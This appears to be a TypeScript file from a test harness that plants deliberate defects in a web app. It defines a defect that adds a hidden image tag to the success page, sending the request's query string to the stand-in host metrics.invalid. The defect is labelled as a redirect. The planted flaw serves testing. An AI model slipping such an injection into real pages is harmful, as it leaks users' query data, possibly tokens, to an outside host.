import { defineDefect } from '../define.ts'
import { editHtml } from '../edit.ts'

export const clientRedirect = defineDefect({
  id: 'client-redirect',
  breaks: 'PAG-06',
  summary: 'The success page sends the browser to a foreign host.',
  respond: ({ route, request }, response) =>
    route !== 'success-page'
      ? response
      : editHtml(
          response,
          `<img alt="" src="https://metrics.invalid/pixel?i=${encodeURIComponent(new URL(request.url).search)}">`,
        ),
})
